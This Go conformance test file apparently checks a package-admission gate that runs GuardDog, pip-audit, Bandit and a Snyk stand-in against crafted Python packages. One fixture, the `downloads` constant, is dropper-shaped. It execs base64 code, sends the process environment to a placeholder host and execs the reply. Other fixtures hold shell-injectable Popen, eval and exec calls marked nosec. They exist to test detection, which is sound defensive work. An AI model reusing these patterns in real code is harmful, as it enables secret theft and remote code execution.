//go:build conformance

// Package scanners_test runs the real GuardDog, pip-audit and Bandit, and a
// stand-in for Snyk's command line, through the real binary: on a package that
// would leave a canary behind if any of its code ran, on one whose author wrote
// suppressions, and with services that answer well, badly and not at all.
// Everything is on loopback. It needs
//
//	GATEHOUSE_TEST_BINARY    the built gatehouse
//	GATEHOUSE_TEST_SCANNERS  the folder with the scanners and their Python
//
// which `make conformance` sets; what is missing fails. Snyk's own program is not
// among them: what npm installs fetches it from elsewhere when it is first run.
package scanners_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gatehouse-project/gatehouse/examples"
	"github.com/gatehouse-project/gatehouse/internal/scan/scantest"
	"github.com/gatehouse-project/gatehouse/test/stub"
)

var binary, scanners string

func TestMain(m *testing.M) {
	binary, scanners = os.Getenv("GATEHOUSE_TEST_BINARY"), os.Getenv("GATEHOUSE_TEST_SCANNERS")
	for _, path := range []string{binary, program("guarddog"), program("pip-audit"), program("bandit"), program("python")} {
		if st, err := os.Stat(path); !filepath.IsAbs(path) || err != nil || st.IsDir() {
			fmt.Fprintf(os.Stderr, "%q is no program here; run: make conformance\n", path)
			os.Exit(1)
		}
	}
	code := m.Run()
	for _, c := range costs {
		fmt.Println(c)
	}
	os.Exit(code)
}

func program(name string) string { return filepath.Join(scanners, name) }

// costs is what each look took, for people.
var costs []string

// tried is what `gatehouse scanners test` prints.
type tried struct {
	Result struct {
		Fault    string        `json:"fault"`
		Exit     int           `json:"exit"`
		Took     time.Duration `json:"took_ns"`
		CPU      time.Duration `json:"cpu_ns"`
		Findings []struct {
			Rule, Class, Severity, Text, Path string
			Line                              int
			IDs, Fixed                        []string
		} `json:"findings"`
	} `json:"result"`
	Stderr string `json:"stderr"`
}

func (r tried) rules() (out []string) {
	for _, f := range r.Result.Findings {
		if !slices.Contains(out, f.Rule) {
			out = append(out, f.Rule)
		}
	}
	slices.Sort(out)
	return out
}

// try runs one scanner through the gate; code is the exit code that is wanted.
func try(t *testing.T, settings, name, what string, code int, env ...string) tried {
	t.Helper()
	dir := t.TempDir()
	file := filepath.Join(dir, "gatehouse.yaml")
	if err := os.WriteFile(file, []byte("scanners:\n"+settings), 0o600); err != nil {
		t.Fatal(err)
	}
	out, stderr, got := run(t, env, binary, "--config", file, "--data", filepath.Join(dir, "data"), "--format", "json", "scanners", "test", name, what)
	var r tried
	if err := json.Unmarshal(out, &r); err != nil || got != code {
		t.Fatalf("%s %s: exit code %d, want %d (%v)\n%s%s", name, filepath.Base(what), got, code, err, out, stderr)
	}
	costs = append(costs, fmt.Sprintf("%-10s %-28s %5.2f s  %5.2f s of processor time", name, filepath.Base(what), r.Result.Took.Seconds(), r.Result.CPU.Seconds()))
	return r
}

func run(t *testing.T, env []string, name string, args ...string) (stdout, stderr []byte, code int) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), name, args...)
	home := t.TempDir()
	cmd.Dir, cmd.Env = home, append([]string{"HOME=" + home, "PATH=/usr/bin:/bin", "LANG=C.UTF-8"}, env...)
	var out, err bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &err
	if e := cmd.Run(); e != nil {
		if _, ok := errors.AsType[*exec.ExitError](e); !ok {
			t.Fatalf("%s: %v", name, e)
		}
	}
	return out.Bytes(), err.Bytes(), cmd.ProcessState.ExitCode()
}

func setting(name, more string) string {
	return fmt.Sprintf("  - {name: %s, preset: %s, program: %s%s}\n", name, name, program(name), more)
}

// sdist writes a source archive of the files, and the files themselves unpacked.
func sdist(t *testing.T, name string, files map[string]string) (archive, folder string) {
	t.Helper()
	dir := t.TempDir()
	archive, folder = filepath.Join(dir, name+".tar.gz"), filepath.Join(dir, "unpacked")
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	w := tar.NewWriter(z)
	for path, content := range files {
		if err := w.WriteHeader(&tar.Header{Name: name + "/" + path, Mode: 0o755, Size: int64(len(content))}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(content)); err != nil {
			t.Fatal(err)
		}
		at := filepath.Join(folder, name, path)
		if err := errors.Join(os.MkdirAll(filepath.Dir(at), 0o755), os.WriteFile(at, []byte(content), 0o755)); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(w.Close(), z.Close(), os.WriteFile(archive, out.Bytes(), 0o600)); err != nil {
		t.Fatal(err)
	}
	return archive, folder
}

// TestPackageCodeDoesNotRun: a package whose every file leaves a canary when it
// runs, through the gate and with the same arguments without its sandbox, which
// alone would hide that the code ran.
func TestPackageCodeDoesNotRun(t *testing.T) {
	canary := filepath.Join(t.TempDir(), "canary")
	leave := fmt.Sprintf("import sys\nopen(%q, 'w').write('ran')\nsys.stderr.write('the canary sings')\n", canary)
	archive, folder := sdist(t, "canary-1.0", map[string]string{
		"setup.py": leave + "from setuptools import setup\nsetup()\n", "canary/__init__.py": leave, "conftest.py": leave, "sitecustomize.py": leave,
		"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"setup\"\nbackend-path = [\".\"]\n",
		"PKG-INFO":       "Metadata-Version: 2.2\nName: canary\nVersion: 1.0\n", "requirements.txt": "-e .\n",
	})
	osv := advisories(t, nil)
	for _, s := range []string{"guarddog", "bandit", "pip-audit"} {
		more := ""
		if s == "pip-audit" {
			more = fmt.Sprintf(", network: [%q], arguments: [--osv-url, %q]", osv.Listener.Addr(), osv.URL)
		}
		r := try(t, setting(s, more), s, archive, 0)
		if strings.Contains(r.Stderr, "canary sings") {
			t.Errorf("%s ran the package: %s", s, r.Stderr)
		}
	}
	requirements := filepath.Join(t.TempDir(), "requirements.txt")
	if err := os.WriteFile(requirements, fmt.Appendf(nil, "canary==1.0 --hash=sha256:%064d\n", 0), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, command := range [][]string{
		{"guarddog", "pypi", "scan", "--output-format", "json", archive},
		{"guarddog", "pypi", "scan", "--output-format", "json", folder},
		{"bandit", "-q", "-r", "--ignore-nosec", "--ini", os.DevNull, "-x", "/nothing", "-f", "json", folder},
		{"pip-audit", "--disable-pip", "--no-deps", "--strict", "--progress-spinner", "off", "-s", "osv", "-f", "json", "-r", requirements, "--osv-url", osv.URL},
	} {
		if _, stderr, _ := run(t, nil, program(command[0]), command[1:]...); strings.Contains(string(stderr), "canary sings") {
			t.Errorf("%s ran the package: %s", command[0], stderr)
		}
	}
	if _, err := os.Stat(canary); !os.IsNotExist(err) {
		t.Errorf("the canary is there: %v", err)
	}
	// The canary would have sung.
	if _, stderr, _ := run(t, nil, program("python"), filepath.Join(folder, "canary-1.0", "conftest.py")); !strings.Contains(string(stderr), "canary sings") {
		t.Errorf("the fixture does not work: %s", stderr)
	}
}

// TestSuppressionsInAPackageAreNotHonoured: first that they work without the gate.
func TestSuppressionsInAPackageAreNotHonoured(t *testing.T) {
	archive, folder := sdist(t, "quiet-1.0", map[string]string{
		"quiet/run.py":        "import subprocess\ndef run(c):\n    return subprocess.Popen('true ' + c, shell=True)  # nosec\n",
		"quiet/.tox/more.py":  "def ev(s):\n    return eval(s)  # nosec B307\n",
		"quiet-x.egg/last.py": "def ex(s):\n    exec(s)  # nosec\n",
		".bandit":             "[bandit]\nexclude: /quiet,/quiet-x.egg\nskips: B602,B307,B102,B404\n",
		"pyproject.toml":      "[tool.bandit]\nexclude_dirs = [\"quiet\"]\nskips = [\"B602\", \"B307\"]\n",
		"setup.cfg":           "[bandit]\nskips: B602\n",
	})
	plain, stderr, _ := run(t, nil, program("bandit"), "-q", "-r", "-f", "json", folder)
	var silent struct{ Results []any }
	if err := json.Unmarshal(plain, &silent); err != nil || len(silent.Results) != 0 {
		t.Fatalf("the fixture does not suppress anything: %v\n%s%s", err, plain, stderr)
	}
	got := try(t, setting("bandit", ""), "bandit", archive, 0).rules()
	if want := []string{"bandit:B102", "bandit:B307", "bandit:B404", "bandit:B602"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// downloads has the shape of a dropper, and nothing to reach.
const downloads = `import base64, os, urllib.request
exec(base64.b64decode("dHJ1ZQ=="))
code = urllib.request.urlopen("http://gatehouse.invalid/x", data=str(os.environ).encode()).read()
exec(code)
import subprocess
subprocess.Popen(["true"])
`

func TestGuardDog(t *testing.T) {
	archive, _ := sdist(t, "dropper-1.0", map[string]string{"setup.py": downloads + "from setuptools import setup\nsetup()\n"})
	r := try(t, setting("guarddog", ""), "guarddog", archive, 0)
	if !slices.Contains(r.rules(), "guarddog:threat-process-download-exec") || r.Result.Findings[0].Severity != "high" || r.Result.Findings[0].Path != "dropper-1.0/setup.py" || r.Result.Findings[0].Line == 0 {
		t.Errorf("got %+v", r.Result)
	}
	b, err := os.ReadFile(archive)
	if err != nil {
		t.Fatal(err)
	}
	cut := filepath.Join(t.TempDir(), "dropper-1.0.tar.gz")
	if err := os.WriteFile(cut, b[:len(b)/2], 0o600); err != nil {
		t.Fatal(err)
	}
	if r := try(t, setting("guarddog", ""), "guarddog", cut, 2); !strings.Contains(r.Result.Fault, "could not be given the file") {
		t.Errorf("an archive that is cut short: %+v", r.Result)
	}
}

func TestBanditSaysWhatItCouldNotRead(t *testing.T) {
	archive, _ := sdist(t, "broken-1.0", map[string]string{"a.py": "def broken(:\n", "b.py": "x = 1\n"})
	if r := try(t, setting("bandit", ""), "bandit", archive, 2); !strings.Contains(r.Result.Fault, "a.py") {
		t.Errorf("got %+v", r.Result)
	}
	if r := try(t, setting("bandit", `, json: {faults: "[]"}`), "bandit", archive, 0); r.Result.Fault != "" {
		t.Errorf("a field of the preset is not overridden: %+v", r.Result)
	}
}

// advisories is a service in OSV's form that knows these records about everything.
func advisories(t *testing.T, answer func(w http.ResponseWriter)) *httptest.Server {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if answer != nil {
			answer(w)
			return
		}
		fmt.Fprint(w, `{}`)
	}))
	t.Cleanup(s.Close)
	return s
}

func TestPipAudit(t *testing.T) {
	with := func(s *httptest.Server) string {
		return setting("pip-audit", fmt.Sprintf(", network: [%q], arguments: [--osv-url, %q]", s.Listener.Addr(), s.URL))
	}
	knows := advisories(t, func(w http.ResponseWriter) {
		fmt.Fprint(w, `{"vulns": [{"id": "PYSEC-2099-1", "aliases": ["CVE-2099-1"], "summary": "bad", "affected": [
			{"package": {"name": "demo", "ecosystem": "PyPI"}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}]}]}]}]}`)
	})
	r := try(t, with(knows), "pip-audit", "pkg:pypi/demo@1.0", 0)
	if f := r.Result.Findings; len(f) != 1 || f[0].Class != "vulnerability" || !slices.Equal(f[0].IDs, []string{"PYSEC-2099-1", "CVE-2099-1"}) || !slices.Equal(f[0].Fixed, []string{"2.0"}) {
		t.Errorf("got %+v", r.Result)
	}
	if r := try(t, with(advisories(t, nil)), "pip-audit", "pkg:pypi/demo@1.0", 0); len(r.Result.Findings) != 0 {
		t.Errorf("nothing is known, and it found %+v", r.Result)
	}
	for why, answer := range map[string]func(http.ResponseWriter){
		"a service that fails": func(w http.ResponseWriter) { w.WriteHeader(http.StatusInternalServerError) },
		"nonsense":             func(w http.ResponseWriter) { fmt.Fprint(w, "<html>maintenance</html>") },
	} {
		if r := try(t, with(advisories(t, answer)), "pip-audit", "pkg:pypi/demo@1.0", 2); r.Result.Fault == "" {
			t.Errorf("%s: got %+v", why, r.Result)
		}
	}
	var asked atomic.Int64
	other := advisories(t, func(http.ResponseWriter) { asked.Add(1) })
	// The place in the list is not the place that it is told to ask.
	elsewhere := setting("pip-audit", fmt.Sprintf(", network: [%q], arguments: [--osv-url, %q]", knows.Listener.Addr(), other.URL))
	if r := try(t, elsewhere, "pip-audit", "pkg:pypi/demo@1.0", 2); r.Result.Fault == "" || asked.Load() != 0 {
		t.Errorf("it reached a place that is not in its list %d times: %+v", asked.Load(), r.Result)
	}
}

func TestSnyk(t *testing.T) {
	token := strings.Repeat("can", 4) + "ary"
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "token "+token {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		var q struct{ Purl string }
		_ = json.NewDecoder(r.Body).Decode(&q)
		if q.Purl != "pkg:pypi/demo@1.0" {
			fmt.Fprint(w, `{"issues": []}`)
			return
		}
		fmt.Fprint(w, `{"issues": [{"id": "SNYK-PYTHON-DEMO-1", "title": "Injection", "severity": "high", "packageName": "demo", "version": "1.0", "identifiers": {"CVE": ["CVE-2099-1"]}, "fixedIn": ["1.5"]}]}`)
	}))
	t.Cleanup(api.Close)
	script, err := os.ReadFile("snyk.py")
	if err != nil {
		t.Fatal(err)
	}
	snyk := filepath.Join(t.TempDir(), "snyk")
	if err := os.WriteFile(snyk, append([]byte("#!"+program("python")+"\n"), script...), 0o755); err != nil {
		t.Fatal(err)
	}
	home, _, _ := run(t, nil, program("python"), "-c", "import sys; print(sys.base_prefix)")
	settings := fmt.Sprintf("  - {name: snyk, preset: snyk, program: %s, network: [%q], secrets: {SNYK_TOKEN: env:MY_TOKEN}, environment: {SNYK_API: %q}, folders: [%s, %s]}\n",
		snyk, api.Listener.Addr(), api.URL, filepath.Dir(scanners), strings.TrimSpace(string(home)))
	r := try(t, settings, "snyk", "pkg:pypi/demo@1.0", 0, "MY_TOKEN="+token)
	if f := r.Result.Findings; len(f) != 1 || f[0].Severity != "high" || !slices.Equal(f[0].IDs, []string{"SNYK-PYTHON-DEMO-1", "CVE-2099-1"}) || !slices.Equal(f[0].Fixed, []string{"1.5"}) {
		t.Errorf("got %+v", r.Result)
	}
	if r := try(t, settings, "snyk", "pkg:pypi/other@1.0", 0, "MY_TOKEN="+token); len(r.Result.Findings) != 0 {
		t.Errorf("got %+v", r.Result)
	}
	wrong := "another" + token
	if r := try(t, settings, "snyk", "pkg:pypi/demo@1.0", 2, "MY_TOKEN="+wrong); !strings.Contains(r.Result.Fault, "exit code 2") || strings.Contains(fmt.Sprintf("%+v", r), wrong) {
		t.Errorf("a token that the service refuses: %+v", r)
	}
}

// TestAdmissionAsksTheScanners: the whole gate, with a package that a scanner
// finds something in and one that it does not.
func TestAdmissionAsksTheScanners(t *testing.T) {
	x := stub.New(t)
	x.Add(scantest.Wheel{Name: "fine", Version: "1.0", License: "MIT"}, stub.About{})
	x.Add(scantest.Wheel{Name: "dropper", Version: "1.0", License: "MIT", Files: map[string]string{"dropper/__init__.py": downloads}}, stub.About{})
	dir := t.TempDir()
	known, err := examples.Advisories()
	if err != nil {
		t.Fatal(err)
	}
	records := filepath.Join(dir, "advisories")
	if err := os.CopyFS(records, known); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(dir, "gatehouse.yaml")
	if err := os.WriteFile(file, fmt.Appendf(nil, "advisories: {sources: [%q]}\nupstreams: [{name: pypi, ecosystem: pypi, url: %q}]\nmatrix: {python: [\"3.12.4\"], platforms: [x86_64-manylinux_2_28]}\nscanners:\n%s",
		records, x.URL(), setting("guarddog", "")+setting("bandit", "")), 0o600); err != nil {
		t.Fatal(err)
	}
	gate := func(args ...string) (string, int) {
		out, stderr, code := run(t, nil, binary, append([]string{"--config", file, "--data", filepath.Join(dir, "data")}, args...)...)
		return string(out) + string(stderr), code
	}
	if out, code := gate("advisories", "sync"); code != 0 {
		t.Fatal(out)
	}
	if out, code := gate("admit", "pkg:pypi/fine@1.0"); code != 0 {
		t.Errorf("exit code %d\n%s", code, out)
	}
	// Our own rules reject it; what the other scanner says stands beside that.
	out, code := gate("admit", "--format", "json", "pkg:pypi/dropper@1.0")
	if code != 1 || !strings.Contains(out, `"guarddog:`) || !strings.Contains(out, `"rule": "external-scanner"`) || !strings.Contains(out, `"rule": "malicious-behaviour"`) {
		t.Errorf("exit code %d\n%s", code, out)
	}
}
